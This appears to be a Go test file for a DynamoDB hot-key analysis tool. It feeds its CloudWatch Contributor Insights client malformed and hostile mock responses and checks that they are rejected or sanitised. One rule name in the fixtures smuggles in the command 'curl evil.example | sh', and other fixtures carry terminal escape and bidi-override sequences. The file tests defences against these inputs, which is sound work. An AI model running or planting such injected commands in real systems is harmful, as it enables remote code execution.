package contributorinsights_test

import (
	"context"
	"fmt"
	"math"
	"net/http"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/credentials"
	"github.com/aws/aws-sdk-go-v2/service/cloudwatch"
	"github.com/aws/aws-sdk-go-v2/service/dynamodb"
	"github.com/aws/smithy-go/encoding/cbor"

	"github.com/keyheat/keyheat/internal/analyze/contributorinsights"
	"github.com/keyheat/keyheat/internal/aws/awserror"
	"github.com/keyheat/keyheat/internal/testsupport/cloudwatchtest"
	"github.com/keyheat/keyheat/internal/testsupport/hostile"
	"github.com/keyheat/keyheat/sample"
)

// reported is a report of one key with one value.
func reported(key cbor.Value, at, value cbor.Value) cbor.Map {
	return cbor.Map{"ApproximateUniqueCount": cbor.Uint(1), "Contributors": cbor.List{cbor.Map{
		"Keys": cbor.List{key}, "Datapoints": cbor.List{cbor.Map{"Timestamp": &cbor.Tag{ID: 1, Value: at}, "ApproximateValue": value}},
	}}}
}

// TestAttacksByReports gives each answer to GetInsightRuleReport: it is refused, or the report
// has finite loads of the time that was asked for only.
func TestAttacksByReports(t *testing.T) {
	t.Parallel()
	key, at := cbor.String("acme"), cbor.Float64(noon.Unix())
	many := func(n int) cbor.Map {
		var all cbor.List
		for i := range n {
			all = append(all, cbor.Map{"Keys": cbor.List{cbor.String(fmt.Sprint(i))}, "Datapoints": cbor.List{}})
		}
		return cbor.Map{"Contributors": all}
	}
	for name, c := range map[string]struct {
		answer cbor.Value
		want   string // the error; empty for none
		points int
	}{
		"a load":                  {reported(key, at, cbor.Float64(7)), "", 1},
		"NaN":                     {reported(key, at, cbor.Float64(math.NaN())), "returned NaN for a key", 0},
		"infinite":                {reported(key, at, cbor.Float64(math.Inf(1))), "returned +Inf for a key", 0},
		"negative":                {reported(key, at, cbor.Float64(-1)), "returned -1 for a key", 0},
		"negatively infinite":     {reported(key, at, cbor.Float64(math.Inf(-1))), "returned -Inf for a key", 0},
		"more than all there is":  {reported(key, at, cbor.Float64(1e308)), "returned 1e+308 for a key", 0},
		"a text for a load":       {reported(key, at, cbor.String("7")), "does not speak CloudWatch's protocol", 0},
		"a number for a key":      {reported(cbor.Uint(7), at, cbor.Float64(7)), "does not speak CloudWatch's protocol", 0},
		"no key":                  {cbor.Map{"Contributors": cbor.List{cbor.Map{"Keys": cbor.List{}}}}, "without the key", 0},
		"the year 1":              {reported(key, cbor.Float64(-62135596800), cbor.Float64(7)), "", 0},
		"the year 9999":           {reported(key, cbor.Float64(253402300799), cbor.Float64(7)), "", 0},
		"a time beyond all":       {reported(key, cbor.Float64(1e300), cbor.Float64(7)), "", 0},
		"no time":                 {reported(key, cbor.Float64(math.NaN()), cbor.Float64(7)), "", 0},
		"a text for a time":       {reported(key, cbor.String("noon"), cbor.Float64(7)), "does not speak CloudWatch's protocol", 0},
		"more keys than asked":    {many(26), "returned 26 of 0 keys, and 25 were asked for", 0},
		"less keys than none":     {cbor.Map{"ApproximateUniqueCount": cbor.NegInt(5)}, "returned 0 of -5 keys", 0},
		"uncountable keys":        {cbor.Map{"ApproximateUniqueCount": cbor.Uint(math.MaxUint64)}, "does not speak CloudWatch's protocol", 0},
		"nothing":                 {cbor.Map{}, "", 0},
		"a list":                  {cbor.List{}, "does not speak CloudWatch's protocol", 0},
		"null for everything":     {cbor.Map{"Contributors": &cbor.Nil{}, "ApproximateUniqueCount": &cbor.Nil{}}, "", 0},
		"keys with control bytes": {reported(cbor.String("\x1b[2J\x00\xff"), at, cbor.Float64(7)), "", 1},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s := cloudwatchtest.New(t)
			s.Raw("GetInsightRuleReport", cloudwatchtest.Reply(c.answer))
			got, err := contributorinsights.Read(t.Context(), s.Client(), accessed, noon, noon.Add(time.Hour))
			if (err == nil) != (c.want == "") || err != nil && !strings.Contains(err.Error(), c.want) {
				t.Fatalf("%v, want %q", err, c.want)
			}
			points := 0
			for _, series := range got.Series {
				points += len(series.Values)
			}
			if points != c.points {
				t.Errorf("%d loads, want %d: %+v", points, c.points, got)
			}
		})
	}
}

// TestAttacksByRules gives each answer to DescribeContributorInsights.
func TestAttacksByRules(t *testing.T) {
	t.Parallel()
	orders := sample.Target{Table: "orders"}
	setup := func(t *testing.T, answer http.HandlerFunc) (contributorinsights.Rules, error) {
		s := cloudwatchtest.New(t)
		s.Raw("DescribeContributorInsights", answer)
		return contributorinsights.Describe(t.Context(), tables(s), orders)
	}
	t.Run("names that are commands", func(t *testing.T) {
		got, err := setup(t, cloudwatchtest.Reply(`{"ContributorInsightsStatus":"ENABLED","ContributorInsightsRuleList":["DynamoDBContributorInsights-PKC-orders-1; curl evil.example | sh","`+accessed+`\u001b[2J","\u0000",""]}`))
		if err == nil || len(got) > 0 || hostile.Fault(err.Error()) != "" {
			t.Errorf("%+v, %v", got, err)
		}
	})
	t.Run("a failure that steers a terminal", func(t *testing.T) {
		_, err := setup(t, cloudwatchtest.Reply(`{"ContributorInsightsStatus":"FAILED","FailureException":{"ExceptionName":"\u001b]0;x\u0007","ExceptionDescription":"`+strings.Repeat(`\u202e`, 10_000)+`"}}`))
		if err == nil || hostile.Fault(err.Error()) != "" || len(err.Error()) > 10_000 {
			t.Errorf("%.500v", err)
		}
	})
	for _, text := range []string{`{}`, `{"ContributorInsightsStatus":"\u0000"}`, `{"ContributorInsightsRuleList":null}`} {
		if got, err := setup(t, cloudwatchtest.Reply(text)); err == nil {
			t.Errorf("%s: %+v", text, got)
		}
	}
	for _, text := range []string{`{"ContributorInsightsRuleList":{}}`, `{"ContributorInsightsStatus":7}`, `{`, `[]`, `nul`} {
		if got, err := setup(t, cloudwatchtest.Reply(text)); err == nil || !strings.Contains(err.Error(), "does not speak DynamoDB's protocol") && !strings.Contains(err.Error(), "unexpected EOF") {
			t.Errorf("%s: %+v, %v", text, got, err)
		}
	}
}

// TestAttacksBySize: an answer of a gigabyte is not read.
func TestAttacksBySize(t *testing.T) {
	t.Parallel()
	for operation, ask := range map[string]func(context.Context, *cloudwatchtest.Server) error{
		"GetInsightRuleReport": func(ctx context.Context, s *cloudwatchtest.Server) error {
			_, err := contributorinsights.Read(ctx, s.Client(), accessed, noon, noon.Add(time.Hour))
			return err
		},
		"DescribeContributorInsights": func(ctx context.Context, s *cloudwatchtest.Server) error {
			_, err := contributorinsights.Describe(ctx, tables(s), sample.Target{Table: "orders"})
			return err
		},
	} {
		t.Run(operation, func(t *testing.T) {
			t.Parallel()
			s := cloudwatchtest.New(t)
			var taken atomic.Int64
			s.Raw(operation, cloudwatchtest.Endless(&taken))
			if err := ask(t.Context(), s); err == nil || !strings.Contains(err.Error(), "does AWS_ENDPOINT_URL name") || taken.Load() > 4*awserror.MaxResponse {
				t.Errorf("%v after %d MiB", err, taken.Load()>>20)
			}
		})
	}
}

// TestNoSetupShowsATextRaw: a table and an index in a Region, of which every name is an attack,
// in each state, and where no request can be made.
func TestNoSetupShowsATextRaw(t *testing.T) {
	t.Parallel()
	m := hostile.New(9)
	check := func(text string) {
		t.Helper()
		if wrong := hostile.FaultOfSentence(text); wrong != "" {
			t.Errorf("it lets %s through: %q", wrong, text)
		}
	}
	for _, index := range []string{"", m.Text()} {
		of := sample.Target{Table: m.Text(), Index: index}
		for _, answer := range []string{
			`{"ContributorInsightsStatus":"ENABLED","ContributorInsightsRuleList":["` + accessed + `"]}`,
			`{"ContributorInsightsStatus":"ENABLED","ContributorInsightsRuleList":["DynamoDBContributorInsights-PKT-orders-1"]}`,
			`{"ContributorInsightsStatus":"ENABLED"}`, `{"ContributorInsightsStatus":"ENABLING"}`, `{"ContributorInsightsStatus":"DISABLING"}`,
			`{"ContributorInsightsStatus":"DISABLED"}`, `{"ContributorInsightsStatus":"FAILED"}`,
		} {
			s := cloudwatchtest.New(t)
			s.Raw("DescribeContributorInsights", cloudwatchtest.Reply(answer))
			if _, err := contributorinsights.Describe(t.Context(), tables(s), of); err != nil {
				check(err.Error())
			}
		}
		api := dynamodb.New(dynamodb.Options{Region: m.Text(), Credentials: credentials.NewStaticCredentialsProvider("a", "b", ""), RetryMaxAttempts: 1})
		if _, err := contributorinsights.Describe(t.Context(), api, of); err == nil {
			t.Error("a request to a Region that cannot be was answered")
		} else {
			check(err.Error())
		}
		reports := cloudwatch.New(cloudwatch.Options{Region: m.Text(), Credentials: credentials.NewStaticCredentialsProvider("a", "b", ""), RetryMaxAttempts: 1})
		if _, err := contributorinsights.Read(t.Context(), reports, accessed, noon, noon.Add(time.Minute)); err == nil {
			t.Error("a report of a Region that cannot be was read")
		} else {
			check(err.Error())
		}
	}
}
